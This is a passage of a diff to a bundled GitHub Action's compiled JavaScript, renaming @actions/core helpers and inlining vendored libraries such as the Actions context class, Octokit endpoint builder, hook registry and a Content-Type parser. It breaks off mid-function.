+    process.env['PATH'] = `${inputPath}${external_path_.delimiter}${process.env['PATH']}`;
 }
 /**
  * Gets the value of an input.
@@ -50911,10 +53330,10 @@ function getBooleanInput(name, options) {
 function setOutput(name, value) {
     const filePath = process.env['GITHUB_OUTPUT'] || '';
     if (filePath) {
-        return file_command_issueFileCommand('OUTPUT', file_command_prepareKeyValueMessage(name, value));
+        return issueFileCommand('OUTPUT', prepareKeyValueMessage(name, value));
     }
     process.stdout.write(external_os_.EOL);
-    command_issueCommand('set-output', { name }, utils_toCommandValue(value));
+    issueCommand('set-output', { name }, toCommandValue(value));
 }
 /**
  * Enables or disables the echoing of commands into stdout for the rest of the step.
@@ -50949,7 +53368,7 @@ function isDebug() {
  * Writes debug message to user log
  * @param message debug message
  */
-function core_debug(message) {
+function debug(message) {
     issueCommand('debug', {}, message);
 }
 /**
@@ -50958,7 +53377,7 @@ function core_debug(message) {
  * @param properties optional properties to add to the annotation.
  */
 function error(message, properties = {}) {
-    command_issueCommand('error', utils_toCommandProperties(properties), message instanceof Error ? message.toString() : message);
+    issueCommand('error', toCommandProperties(properties), message instanceof Error ? message.toString() : message);
 }
 /**
  * Adds a warning issue
@@ -50966,7 +53385,7 @@ function error(message, properties = {}) {
  * @param properties optional properties to add to the annotation.
  */
 function warning(message, properties = {}) {
-    command_issueCommand('warning', utils_toCommandProperties(properties), message instanceof Error ? message.toString() : message);
+    issueCommand('warning', toCommandProperties(properties), message instanceof Error ? message.toString() : message);
 }
 /**
  * Adds a notice issue
@@ -50981,7 +53400,7 @@ function notice(message, properties = {}) {
  * @param message info message
  */
 function info(message) {
-    process.stdout.write(message + os.EOL);
+    process.stdout.write(message + external_os_.EOL);
 }
 /**
  * Begin an output group.
@@ -51068,10 +53487,5481 @@ function getIDToken(aud) {
  */
 
 //# sourceMappingURL=core.js.map
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __nccwpck_require__(73024);
 // EXTERNAL MODULE: external "node:fs/promises"
 var promises_ = __nccwpck_require__(51455);
+// EXTERNAL MODULE: external "node:os"
+var external_node_os_ = __nccwpck_require__(48161);
 // EXTERNAL MODULE: external "node:path"
 var external_node_path_ = __nccwpck_require__(76760);
+;// CONCATENATED MODULE: ./node_modules/@actions/github/lib/context.js
+
+
+class Context {
+    /**
+     * Hydrate the context from the environment
+     */
+    constructor() {
+        var _a, _b, _c;
+        this.payload = {};
+        if (process.env.GITHUB_EVENT_PATH) {
+            if ((0,external_fs_.existsSync)(process.env.GITHUB_EVENT_PATH)) {
+                this.payload = JSON.parse((0,external_fs_.readFileSync)(process.env.GITHUB_EVENT_PATH, { encoding: 'utf8' }));
+            }
+            else {
+                const path = process.env.GITHUB_EVENT_PATH;
+                process.stdout.write(`GITHUB_EVENT_PATH ${path} does not exist${external_os_.EOL}`);
+            }
+        }
+        this.eventName = process.env.GITHUB_EVENT_NAME;
+        this.sha = process.env.GITHUB_SHA;
+        this.ref = process.env.GITHUB_REF;
+        this.workflow = process.env.GITHUB_WORKFLOW;
+        this.action = process.env.GITHUB_ACTION;
+        this.actor = process.env.GITHUB_ACTOR;
+        this.job = process.env.GITHUB_JOB;
+        this.runAttempt = parseInt(process.env.GITHUB_RUN_ATTEMPT, 10);
+        this.runNumber = parseInt(process.env.GITHUB_RUN_NUMBER, 10);
+        this.runId = parseInt(process.env.GITHUB_RUN_ID, 10);
+        this.apiUrl = (_a = process.env.GITHUB_API_URL) !== null && _a !== void 0 ? _a : `https://api.github.com`;
+        this.serverUrl = (_b = process.env.GITHUB_SERVER_URL) !== null && _b !== void 0 ? _b : `https://github.com`;
+        this.graphqlUrl =
+            (_c = process.env.GITHUB_GRAPHQL_URL) !== null && _c !== void 0 ? _c : `https://api.github.com/graphql`;
+    }
+    get issue() {
+        const payload = this.payload;
+        return Object.assign(Object.assign({}, this.repo), { number: (payload.issue || payload.pull_request || payload).number });
+    }
+    get repo() {
+        if (process.env.GITHUB_REPOSITORY) {
+            const [owner, repo] = process.env.GITHUB_REPOSITORY.split('/');
+            return { owner, repo };
+        }
+        if (this.payload.repository) {
+            return {
+                owner: this.payload.repository.owner.login,
+                repo: this.payload.repository.name
+            };
+        }
+        throw new Error("context.repo requires a GITHUB_REPOSITORY environment variable like 'owner/repo'");
+    }
+}
+//# sourceMappingURL=context.js.map
+// EXTERNAL MODULE: ./node_modules/@actions/github/node_modules/@actions/http-client/lib/index.js
+var lib = __nccwpck_require__(89659);
+;// CONCATENATED MODULE: ./node_modules/@actions/github/lib/internal/utils.js
+var utils_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
+    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
+    return new (P || (P = Promise))(function (resolve, reject) {
+        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
+        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
+        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
+        step((generator = generator.apply(thisArg, _arguments || [])).next());
+    });
+};
+
+
+function getAuthString(token, options) {
+    if (!token && !options.auth) {
+        throw new Error('Parameter token or opts.auth is required');
+    }
+    else if (token && options.auth) {
+        throw new Error('Parameters token and opts.auth may not both be specified');
+    }
+    return typeof options.auth === 'string' ? options.auth : `token ${token}`;
+}
+function getProxyAgent(destinationUrl) {
+    const hc = new lib.HttpClient();
+    return hc.getAgent(destinationUrl);
+}
+function getProxyAgentDispatcher(destinationUrl) {
+    const hc = new lib.HttpClient();
+    return hc.getAgentDispatcher(destinationUrl);
+}
+function getProxyFetch(destinationUrl) {
+    const httpDispatcher = getProxyAgentDispatcher(destinationUrl);
+    const proxyFetch = (url, opts) => utils_awaiter(this, void 0, void 0, function* () {
+        return (0,undici.fetch)(url, Object.assign(Object.assign({}, opts), { dispatcher: httpDispatcher }));
+    });
+    return proxyFetch;
+}
+function getApiBaseUrl() {
+    return process.env['GITHUB_API_URL'] || 'https://api.github.com';
+}
+function getUserAgentWithOrchestrationId(baseUserAgent) {
+    var _a;
+    const orchId = (_a = process.env['ACTIONS_ORCHESTRATION_ID']) === null || _a === void 0 ? void 0 : _a.trim();
+    if (orchId) {
+        const sanitizedId = orchId.replace(/[^a-z0-9_.-]/gi, '_');
+        const tag = `actions_orchestration_id/${sanitizedId}`;
+        if (baseUserAgent === null || baseUserAgent === void 0 ? void 0 : baseUserAgent.includes(tag))
+            return baseUserAgent;
+        const ua = baseUserAgent ? `${baseUserAgent} ` : '';
+        return `${ua}${tag}`;
+    }
+    return baseUserAgent;
+}
+//# sourceMappingURL=utils.js.map
+;// CONCATENATED MODULE: ./node_modules/universal-user-agent/index.js
+function getUserAgent() {
+  if (typeof navigator === "object" && "userAgent" in navigator) {
+    return navigator.userAgent;
+  }
+
+  if (typeof process === "object" && process.version !== undefined) {
+    return `Node.js/${process.version.substr(1)} (${process.platform}; ${
+      process.arch
+    })`;
+  }
+
+  return "<environment undetectable>";
+}
+
+;// CONCATENATED MODULE: ./node_modules/before-after-hook/lib/register.js
+// @ts-check
+
+function register(state, name, method, options) {
+  if (typeof method !== "function") {
+    throw new Error("method for before hook must be a function");
+  }
+
+  if (!options) {
+    options = {};
+  }
+
+  if (Array.isArray(name)) {
+    return name.reverse().reduce((callback, name) => {
+      return register.bind(null, state, name, callback, options);
+    }, method)();
+  }
+
+  return Promise.resolve().then(() => {
+    if (!state.registry[name]) {
+      return method(options);
+    }
+
+    return state.registry[name].reduce((method, registered) => {
+      return registered.hook.bind(null, method, options);
+    }, method)();
+  });
+}
+
+;// CONCATENATED MODULE: ./node_modules/before-after-hook/lib/add.js
+// @ts-check
+
+function addHook(state, kind, name, hook) {
+  const orig = hook;
+  if (!state.registry[name]) {
+    state.registry[name] = [];
+  }
+
+  if (kind === "before") {
+    hook = (method, options) => {
+      return Promise.resolve()
+        .then(orig.bind(null, options))
+        .then(method.bind(null, options));
+    };
+  }
+
+  if (kind === "after") {
+    hook = (method, options) => {
+      let result;
+      return Promise.resolve()
+        .then(method.bind(null, options))
+        .then((result_) => {
+          result = result_;
+          return orig(result, options);
+        })
+        .then(() => {
+          return result;
+        });
+    };
+  }
+
+  if (kind === "error") {
+    hook = (method, options) => {
+      return Promise.resolve()
+        .then(method.bind(null, options))
+        .catch((error) => {
+          return orig(error, options);
+        });
+    };
+  }
+
+  state.registry[name].push({
+    hook: hook,
+    orig: orig,
+  });
+}
+
+;// CONCATENATED MODULE: ./node_modules/before-after-hook/lib/remove.js
+// @ts-check
+
+function removeHook(state, name, method) {
+  if (!state.registry[name]) {
+    return;
+  }
+
+  const index = state.registry[name]
+    .map((registered) => {
+      return registered.orig;
+    })
+    .indexOf(method);
+
+  if (index === -1) {
+    return;
+  }
+
+  state.registry[name].splice(index, 1);
+}
+
+;// CONCATENATED MODULE: ./node_modules/before-after-hook/index.js
+// @ts-check
+
+
+
+
+
+// bind with array of arguments: https://stackoverflow.com/a/21792913
+const bind = Function.bind;
+const bindable = bind.bind(bind);
+
+function bindApi(hook, state, name) {
+  const removeHookRef = bindable(removeHook, null).apply(
+    null,
+    name ? [state, name] : [state]
+  );
+  hook.api = { remove: removeHookRef };
+  hook.remove = removeHookRef;
+  ["before", "error", "after", "wrap"].forEach((kind) => {
+    const args = name ? [state, kind, name] : [state, kind];
+    hook[kind] = hook.api[kind] = bindable(addHook, null).apply(null, args);
+  });
+}
+
+function Singular() {
+  const singularHookName = Symbol("Singular");
+  const singularHookState = {
+    registry: {},
+  };
+  const singularHook = register.bind(null, singularHookState, singularHookName);
+  bindApi(singularHook, singularHookState, singularHookName);
+  return singularHook;
+}
+
+function Collection() {
+  const state = {
+    registry: {},
+  };
+
+  const hook = register.bind(null, state);
+  bindApi(hook, state);
+
+  return hook;
+}
+
+/* harmony default export */ const before_after_hook = ({ Singular, Collection });
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/endpoint/dist-bundle/index.js
+// pkg/dist-src/defaults.js
+
+
+// pkg/dist-src/version.js
+var VERSION = "0.0.0-development";
+
+// pkg/dist-src/defaults.js
+var userAgent = `octokit-endpoint.js/${VERSION} ${getUserAgent()}`;
+var DEFAULTS = {
+  method: "GET",
+  baseUrl: "https://api.github.com",
+  headers: {
+    accept: "application/vnd.github.v3+json",
+    "user-agent": userAgent
+  },
+  mediaType: {
+    format: ""
+  }
+};
+
+// pkg/dist-src/util/lowercase-keys.js
+function dist_bundle_lowercaseKeys(object) {
+  if (!object) {
+    return {};
+  }
+  return Object.keys(object).reduce((newObj, key) => {
+    newObj[key.toLowerCase()] = object[key];
+    return newObj;
+  }, {});
+}
+
+// pkg/dist-src/util/is-plain-object.js
+function isPlainObject(value) {
+  if (typeof value !== "object" || value === null) return false;
+  if (Object.prototype.toString.call(value) !== "[object Object]") return false;
+  const proto = Object.getPrototypeOf(value);
+  if (proto === null) return true;
+  const Ctor = Object.prototype.hasOwnProperty.call(proto, "constructor") && proto.constructor;
+  return typeof Ctor === "function" && Ctor instanceof Ctor && Function.prototype.call(Ctor) === Function.prototype.call(value);
+}
+
+// pkg/dist-src/util/merge-deep.js
+function mergeDeep(defaults, options) {
+  const result = Object.assign({}, defaults);
+  Object.keys(options).forEach((key) => {
+    if (isPlainObject(options[key])) {
+      if (!(key in defaults)) Object.assign(result, { [key]: options[key] });
+      else result[key] = mergeDeep(defaults[key], options[key]);
+    } else {
+      Object.assign(result, { [key]: options[key] });
+    }
+  });
+  return result;
+}
+
+// pkg/dist-src/util/remove-undefined-properties.js
+function removeUndefinedProperties(obj) {
+  for (const key in obj) {
+    if (obj[key] === void 0) {
+      delete obj[key];
+    }
+  }
+  return obj;
+}
+
+// pkg/dist-src/merge.js
+function merge(defaults, route, options) {
+  if (typeof route === "string") {
+    let [method, url] = route.split(" ");
+    options = Object.assign(url ? { method, url } : { url: method }, options);
+  } else {
+    options = Object.assign({}, route);
+  }
+  options.headers = dist_bundle_lowercaseKeys(options.headers);
+  removeUndefinedProperties(options);
+  removeUndefinedProperties(options.headers);
+  const mergedOptions = mergeDeep(defaults || {}, options);
+  if (options.url === "/graphql") {
+    if (defaults && defaults.mediaType.previews?.length) {
+      mergedOptions.mediaType.previews = defaults.mediaType.previews.filter(
+        (preview) => !mergedOptions.mediaType.previews.includes(preview)
+      ).concat(mergedOptions.mediaType.previews);
+    }
+    mergedOptions.mediaType.previews = (mergedOptions.mediaType.previews || []).map((preview) => preview.replace(/-preview/, ""));
+  }
+  return mergedOptions;
+}
+
+// pkg/dist-src/util/add-query-parameters.js
+function addQueryParameters(url, parameters) {
+  const separator = /\?/.test(url) ? "&" : "?";
+  const names = Object.keys(parameters);
+  if (names.length === 0) {
+    return url;
+  }
+  return url + separator + names.map((name) => {
+    if (name === "q") {
+      return "q=" + parameters.q.split("+").map(encodeURIComponent).join("+");
+    }
+    return `${name}=${encodeURIComponent(parameters[name])}`;
+  }).join("&");
+}
+
+// pkg/dist-src/util/extract-url-variable-names.js
+var urlVariableRegex = /\{[^{}}]+\}/g;
+function removeNonChars(variableName) {
+  return variableName.replace(/(?:^\W+)|(?:(?<!\W)\W+$)/g, "").split(/,/);
+}
+function extractUrlVariableNames(url) {
+  const matches = url.match(urlVariableRegex);
+  if (!matches) {
+    return [];
+  }
+  return matches.map(removeNonChars).reduce((a, b) => a.concat(b), []);
+}
+
+// pkg/dist-src/util/omit.js
+function omit(object, keysToOmit) {
+  const result = { __proto__: null };
+  for (const key of Object.keys(object)) {
+    if (keysToOmit.indexOf(key) === -1) {
+      result[key] = object[key];
+    }
+  }
+  return result;
+}
+
+// pkg/dist-src/util/url-template.js
+function encodeReserved(str) {
+  return str.split(/(%[0-9A-Fa-f]{2})/g).map(function(part) {
+    if (!/%[0-9A-Fa-f]/.test(part)) {
+      part = encodeURI(part).replace(/%5B/g, "[").replace(/%5D/g, "]");
+    }
+    return part;
+  }).join("");
+}
+function encodeUnreserved(str) {
+  return encodeURIComponent(str).replace(/[!'()*]/g, function(c) {
+    return "%" + c.charCodeAt(0).toString(16).toUpperCase();
+  });
+}
+function encodeValue(operator, value, key) {
+  value = operator === "+" || operator === "#" ? encodeReserved(value) : encodeUnreserved(value);
+  if (key) {
+    return encodeUnreserved(key) + "=" + value;
+  } else {
+    return value;
+  }
+}
+function isDefined(value) {
+  return value !== void 0 && value !== null;
+}
+function isKeyOperator(operator) {
+  return operator === ";" || operator === "&" || operator === "?";
+}
+function getValues(context, operator, key, modifier) {
+  var value = context[key], result = [];
+  if (isDefined(value) && value !== "") {
+    if (typeof value === "string" || typeof value === "number" || typeof value === "bigint" || typeof value === "boolean") {
+      value = value.toString();
+      if (modifier && modifier !== "*") {
+        value = value.substring(0, parseInt(modifier, 10));
+      }
+      result.push(
+        encodeValue(operator, value, isKeyOperator(operator) ? key : "")
+      );
+    } else {
+      if (modifier === "*") {
+        if (Array.isArray(value)) {
+          value.filter(isDefined).forEach(function(value2) {
+            result.push(
+              encodeValue(operator, value2, isKeyOperator(operator) ? key : "")
+            );
+          });
+        } else {
+          Object.keys(value).forEach(function(k) {
+            if (isDefined(value[k])) {
+              result.push(encodeValue(operator, value[k], k));
+            }
+          });
+        }
+      } else {
+        const tmp = [];
+        if (Array.isArray(value)) {
+          value.filter(isDefined).forEach(function(value2) {
+            tmp.push(encodeValue(operator, value2));
+          });
+        } else {
+          Object.keys(value).forEach(function(k) {
+            if (isDefined(value[k])) {
+              tmp.push(encodeUnreserved(k));
+              tmp.push(encodeValue(operator, value[k].toString()));
+            }
+          });
+        }
+        if (isKeyOperator(operator)) {
+          result.push(encodeUnreserved(key) + "=" + tmp.join(","));
+        } else if (tmp.length !== 0) {
+          result.push(tmp.join(","));
+        }
+      }
+    }
+  } else {
+    if (operator === ";") {
+      if (isDefined(value)) {
+        result.push(encodeUnreserved(key));
+      }
+    } else if (value === "" && (operator === "&" || operator === "?")) {
+      result.push(encodeUnreserved(key) + "=");
+    } else if (value === "") {
+      result.push("");
+    }
+  }
+  return result;
+}
+function parseUrl(template) {
+  return {
+    expand: expand.bind(null, template)
+  };
+}
+function expand(template, context) {
+  var operators = ["+", "#", ".", "/", ";", "?", "&"];
+  template = template.replace(
+    /\{([^\{\}]+)\}|([^\{\}]+)/g,
+    function(_, expression, literal) {
+      if (expression) {
+        let operator = "";
+        const values = [];
+        if (operators.indexOf(expression.charAt(0)) !== -1) {
+          operator = expression.charAt(0);
+          expression = expression.substr(1);
+        }
+        expression.split(/,/g).forEach(function(variable) {
+          var tmp = /([^:\*]*)(?::(\d+)|(\*))?/.exec(variable);
+          values.push(getValues(context, operator, tmp[1], tmp[2] || tmp[3]));
+        });
+        if (operator && operator !== "+") {
+          var separator = ",";
+          if (operator === "?") {
+            separator = "&";
+          } else if (operator !== "#") {
+            separator = operator;
+          }
+          return (values.length !== 0 ? operator : "") + values.join(separator);
+        } else {
+          return values.join(",");
+        }
+      } else {
+        return encodeReserved(literal);
+      }
+    }
+  );
+  if (template === "/") {
+    return template;
+  } else {
+    return template.replace(/\/$/, "");
+  }
+}
+
+// pkg/dist-src/parse.js
+function dist_bundle_parse(options) {
+  let method = options.method.toUpperCase();
+  let url = (options.url || "/").replace(/:([a-z]\w+)/g, "{$1}");
+  let headers = Object.assign({}, options.headers);
+  let body;
+  let parameters = omit(options, [
+    "method",
+    "baseUrl",
+    "url",
+    "headers",
+    "request",
+    "mediaType"
+  ]);
+  const urlVariableNames = extractUrlVariableNames(url);
+  url = parseUrl(url).expand(parameters);
+  if (!/^http/.test(url)) {
+    url = options.baseUrl + url;
+  }
+  const omittedParameters = Object.keys(options).filter((option) => urlVariableNames.includes(option)).concat("baseUrl");
+  const remainingParameters = omit(parameters, omittedParameters);
+  const isBinaryRequest = /application\/octet-stream/i.test(headers.accept);
+  if (!isBinaryRequest) {
+    if (options.mediaType.format) {
+      headers.accept = headers.accept.split(/,/).map(
+        (format) => format.replace(
+          /application\/vnd(\.\w+)(\.v3)?(\.\w+)?(\+json)?$/,
+          `application/vnd$1$2.${options.mediaType.format}`
+        )
+      ).join(",");
+    }
+    if (url.endsWith("/graphql")) {
+      if (options.mediaType.previews?.length) {
+        const previewsFromAcceptHeader = headers.accept.match(/(?<![\w-])[\w-]+(?=-preview)/g) || [];
+        headers.accept = previewsFromAcceptHeader.concat(options.mediaType.previews).map((preview) => {
+          const format = options.mediaType.format ? `.${options.mediaType.format}` : "+json";
+          return `application/vnd.github.${preview}-preview${format}`;
+        }).join(",");
+      }
+    }
+  }
+  if (["GET", "HEAD"].includes(method)) {
+    url = addQueryParameters(url, remainingParameters);
+  } else {
+    if ("data" in remainingParameters) {
+      body = remainingParameters.data;
+    } else {
+      if (Object.keys(remainingParameters).length) {
+        body = remainingParameters;
+      }
+    }
+  }
+  if (!headers["content-type"] && typeof body !== "undefined") {
+    headers["content-type"] = "application/json; charset=utf-8";
+  }
+  if (["PATCH", "PUT"].includes(method) && typeof body === "undefined") {
+    body = "";
+  }
+  return Object.assign(
+    { method, url, headers },
+    typeof body !== "undefined" ? { body } : null,
+    options.request ? { request: options.request } : null
+  );
+}
+
+// pkg/dist-src/endpoint-with-defaults.js
+function endpointWithDefaults(defaults, route, options) {
+  return dist_bundle_parse(merge(defaults, route, options));
+}
+
+// pkg/dist-src/with-defaults.js
+function withDefaults(oldDefaults, newDefaults) {
+  const DEFAULTS2 = merge(oldDefaults, newDefaults);
+  const endpoint2 = endpointWithDefaults.bind(null, DEFAULTS2);
+  return Object.assign(endpoint2, {
+    DEFAULTS: DEFAULTS2,
+    defaults: withDefaults.bind(null, DEFAULTS2),
+    merge: merge.bind(null, DEFAULTS2),
+    parse: dist_bundle_parse
+  });
+}
+
+// pkg/dist-src/index.js
+var endpoint = withDefaults(null, DEFAULTS);
+
+
+;// CONCATENATED MODULE: ./node_modules/content-type/dist/index.js
+/*!
+ * content-type
+ * Copyright(c) 2015 Douglas Christopher Wilson
+ * MIT Licensed
+ */
+const SP = 32; // " "
+const HTAB = 9; // "\t"
+const SEMI = 59; // ";"
+const EQ = 61; // "="
+const DQUOTE = 34; // '"'
+const BSLASH = 92; // "\\"
+const COMMA = 44; // ","
+const LOWER_CASE = 1;
+const OWS = 2;
+const SEMI_FLAG = 4;
+const COMMA_FLAG = 8;
+const TOKEN_FLAG = 16;
+const NON_ASCII = 0xff00;
+const CASE_FLAGS = LOWER_CASE | NON_ASCII;
+/**
+ * Character flags used to normalize HTTP field values while scanning.
+ * Out-of-range reads intentionally coerce to zero in bitwise expressions.
+ */
+const CHAR_MAP = new Uint8Array(0x100);
+CHAR_MAP[HTAB] |= OWS;
+CHAR_MAP[SP] |= OWS;
+CHAR_MAP[SEMI] |= SEMI_FLAG;
+CHAR_MAP[COMMA] |= COMMA_FLAG;
+for (let code = 0x80 /* non-ASCII */; code <= 0xff; code++) {
+    CHAR_MAP[code] |= LOWER_CASE;
+}
+for (const char of "!#$%&'*+-.^_`|~") {
+    CHAR_MAP[char.charCodeAt(0)] |= TOKEN_FLAG;
+}
+for (let code = 0x30 /* 0 */; code <= 0x39 /* 9 */; code++) {
+    CHAR_MAP[code] |= TOKEN_FLAG;
+}
+for (let code = 0x41 /* A */; code <= 0x5a /* Z */; code++) {
+    CHAR_MAP[code] |= LOWER_CASE | TOKEN_FLAG;
+}
+for (let code = 0x61 /* a */; code <= 0x7a /* z */; code++) {
+    CHAR_MAP[code] |= TOKEN_FLAG;
+}
+/**
+ * Null object perf optimization. Faster than `Object.create(null)` and `{ __proto__: null }`.
+ */
+const NullObject = /* @__PURE__ */ (() => {
+    const C = function () { };
+    C.prototype = Object.create(null);
+    return C;
+})();
+/**
+ * Validate a type string against RFC 9110.
+ */
+function isTypeValid(type, start = 0, end = type.length) {
+    let hasSlash = false;
+    for (let index = start; index < end; index++) {
+        const code = type.charCodeAt(index);
+        if (code === 47 /* / */) {
+            if (hasSlash || index === start || index >= end - 1)
+                return false;
+            hasSlash = true;
+        }
+        else if (!isTokenCode(code)) {
+            return false;
+        }
+    }
+    return hasSlash;
+}
+/**
+ * Validate a token against RFC 9110.
+ */
+function isTokenValid(token, start = 0, end = token.length) {
+    if (start >= end)
+        return false;
+    for (let index = start; index < end; index++) {
+        if (!isTokenCode(token.charCodeAt(index)))
+            return false;
+    }
+    return true;
+}
+/**
+ * Check whether a character code belongs to the token production in RFC 9110.
+ */
+function isTokenCode(code) {
+    return (CHAR_MAP[code] & TOKEN_FLAG) !== 0;
+}
+/**
+ * Serialize a parameter value.
+ */
+function parameterValue(str) {
+    const len = str.length;
+    if (len === 0)
+        return '""';
+    let index = 0;
+    while (index < len && isTokenCode(str.charCodeAt(index)))
+        index++;
+    if (index === len)
+        return str;
+    let result = '"';
+    let start = 0;
+    while (index < len) {
+        const code = str.charCodeAt(index);
+        if (code !== HTAB && (code < SP || code === 127 || code > 255)) {
+            throw new TypeError(`Invalid parameter value: ${str}`);
+        }
+        if (code === 34 /* " */ || code === 92 /* \\ */) {
+            result += `${str.slice(start, index)}\\`;
+            start = index;
+        }
+        index++;
+    }
+    return `${result}${str.slice(start)}"`;
+}
+/**
+ * Format an object into a `Content-Type` header.
+ */
+function format(obj) {
+    const { type, parameters } = obj;
+    if (!type || !isTypeValid(type)) {
+        throw new TypeError(`Invalid type: ${type}`);
+    }
+    let result = type;
+    if (parameters) {
+        for (const param of Object.keys(parameters)) {
+            if (!isTokenValid(param)) {
+                throw new TypeError(`Invalid parameter name: ${param}`);
+            }
+            result += `; ${param}=${parameterValue(parameters[param])}`;
+        }
+    }
+    return result;
+}
+/**
+ * Parse a `Content-Type` header.
+ */
+function dist_parse(header, options) {
+    const stopFlags = SEMI_FLAG | (options?.comma === true ? COMMA_FLAG : 0);
+    const len = header.length;
+    let valueStart = options?.start ?? 0;
+    while ((CHAR_MAP[header.charCodeAt(valueStart)] & OWS) !== 0) {
+        valueStart++;
+    }
+    let index = valueStart;
+    let typeFlags = 0;
+    let whitespace = -1;
+    let stop = options?.parameters === false ? COMMA_FLAG : 0;
+    while (index < len) {
+        const code = header.charCodeAt(index);
+        const flags = CHAR_MAP[code];
+        if ((flags & stopFlags) !== 0) {
+            stop |= flags & COMMA_FLAG;
+            break;
+        }
+        if ((flags & OWS) !== 0) {
+            if (whitespace === -1)
+                whitespace = index;
+        }
+        else {
+            whitespace = -1;
+        }
+        typeFlags |= (code & NON_ASCII) | flags;
+        index++;
+    }
+    const valueEnd = whitespace === -1 ? index : whitespace;
+    const value = header.slice(valueStart, valueEnd);
+    const type = (typeFlags & CASE_FLAGS) === 0 ? value : value.toLowerCase();
+    if (index === len || stop !== 0) {
+        return { type, index, parameters: new NullObject() };
+    }
+    return parseParameters(header, type, index, len, stopFlags);
+}
+/**
+ * Parses the parameters of a `Content-Type` header starting at the given index.
+ */
+function parseParameters(header, type, index, len, stopFlags) {
+    const parameters = new NullObject();
+    parameter: while (index < len) {
+        index++; // Skip over ;
+        while ((CHAR_MAP[header.charCodeAt(index)] & OWS) !== 0) {
+            index++;
+        }
+        const keyStart = index;
+        let keyFlags = 0;
+        let keyWhitespace = -1;
+        while (index < len) {
+            const code = header.charCodeAt(index);
+            const flags = CHAR_MAP[code];
+            if ((flags & stopFlags) !== 0) {
+                if ((flags & COMMA_FLAG) !== 0)
+                    break parameter;
+                continue parameter;
+            }
+            if (code === EQ) {
+                const keyEnd = keyWhitespace === -1 ? index : keyWhitespace;
+                const value = header.slice(keyStart, keyEnd);
+                const key = (keyFlags & CASE_FLAGS) === 0 ? value : value.toLowerCase();
+                index++;
+                while ((CHAR_MAP[header.charCodeAt(index)] & OWS) !== 0) {
+                    index++;
+                }
+                if (index < len && header.charCodeAt(index) === DQUOTE) {
+                    const quotedStart = ++index;
+                    let escaped = false;
+                    while (index < len) {
+                        const code = header.charCodeAt(index);
+                        if (code === DQUOTE) {
+                            if (parameters[key] === undefined) {
+                                parameters[key] = escaped
+                                    ? unescapeQuotedPairs(header, quotedStart, index)
+                                    : header.slice(quotedStart, index);
+                            }
+                            index++;
+                            let stop = 0;
+                            // Discard characters between quote and delimiter.
+                            while (index < len) {
+                                const code = header.charCodeAt(index);
+                                const flags = CHAR_MAP[code];
+                                if ((flags & stopFlags) !== 0) {
+                                    stop = flags & COMMA_FLAG;
+                                    break;
+                                }
+                                index++;
+                            }
+                            if (stop !== 0)
+                                break parameter;
+                            continue parameter;
+                        }
+                        if (code === BSLASH && index + 1 < len) {
+                            escaped = true;
+                            index += 2;
+                            continue;
+                        }
+                        index++;
+                    }
+                    continue parameter;
+                }
+                const valueStart = index;
+                let stop = 0;
+                let valueWhitespace = -1;
+                while (index < len) {
+                    const code = header.charCodeAt(index);
+                    const flags = CHAR_MAP[code];
+                    if ((flags & stopFlags) !== 0) {
+                        stop = flags & COMMA_FLAG;
+                        break;
+                    }
+                    if ((flags & OWS) !== 0) {
+                        if (valueWhitespace === -1)
+                            valueWhitespace = index;
+                    }
+                    else {
+                        valueWhitespace = -1;
+                    }
+                    index++;
+                }
+                if (parameters[key] === undefined) {
+                    const valueEnd = valueWhitespace === -1 ? index : valueWhitespace;
+                    parameters[key] = header.slice(valueStart, valueEnd);
+                }
+                if (stop !== 0)
+                    break parameter;
+                continue parameter;
+            }
+            if ((flags & OWS) !== 0) {
+                if (keyWhitespace === -1)
+                    keyWhitespace = index;
+            }
+            else {
+                keyWhitespace = -1;
+            }
+            keyFlags |= (code & NON_ASCII) | flags;
+            index++;
+        }
+    }
+    return { type, index, parameters };
+}
+/**
+ * Remove backslashes from quoted pairs in a known-terminated quoted string body.
+ */
+function unescapeQuotedPairs(str, start, end) {
+    let result = "";
+    for (let index = start; index < end; index++) {
+        if (str.charCodeAt(index) === BSLASH) {
+            result += str.slice(start, index);
+            start = ++index;
+        }
+    }
+    return result + str.slice(start, end);
+}
+//# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./node_modules/json-with-bigint/json-with-bigint.js
+const intRegex = /^-?\d+$/;
+const noiseValue = /^-?\d+n+$/; // Noise - strings that match the custom format before being converted to it
+const originalStringify = JSON.stringify;
+const originalParse = JSON.parse;
+const customFormat = /^-?\d+n$/;
+
+const bigIntsStringify = /([\[:])?"(-?\d+)n"($|\s*[,\}\]])/g;
+const noiseStringify = /([\[:])?("-?\d+n+)n("$|"\s*[,\}\]])/g;
+
+/**
+ * @typedef {(this: any, key: string | number | undefined, value: any) => any} Replacer
+ * @typedef {(key: string | number | undefined, value: any, context?: { source: string }) => any} Reviver
+ */
+
+/**
+ * Checks if a value is unstringifiable according to native JSON.stringify rules.
+ *
+ * @param {any} val The value to check.
+ * @returns {boolean} True if the value is undefined, a function, or a symbol.
+ */
+const isUnstringifiable = (val) =>
+  val === undefined || typeof val === "function" || typeof val === "symbol";
+
+/**
+ * Checks if a value is a native JSON.rawJSON object (Node.js 22+).
+ *
+ * @param {any} val The value to check.
+ * @returns {boolean} True if the value is a RawJSON instance.
+ */
+const isRawJSON = (val) =>
+  val !== null &&
+  typeof val === "object" &&
+  val.constructor &&
+  val.constructor.name === "RawJSON";
+
+/**
+ * Iteratively converts a JS value to a JSON string.
+ * Used as a fallback when the native JSON.stringify hits the Maximum Call Stack size.
+ * Fully compliant with JSON formatting (space), replacers, and toJSON behaviors.
+ *
+ * @param {any} rootValue The value to stringify.
+ * @param {Replacer | Array<string | number> | null} [replacer] User's custom replacer function.
+ * @param {string | number} [spaceParam] Indentation for pretty-printing.
+ * @returns {string | undefined} The generated JSON string.
+ */
+const stringifyIteratively = (rootValue, replacer, spaceParam) => {
+  let space = "";
+
+  if (typeof spaceParam === "number") {
+    space = " ".repeat(Math.min(10, Math.max(0, Math.floor(spaceParam))));
+  } else if (typeof spaceParam === "string") {
+    space = spaceParam.slice(0, 10);
+  }
+
+  const isFunctionReplacer = typeof replacer === "function";
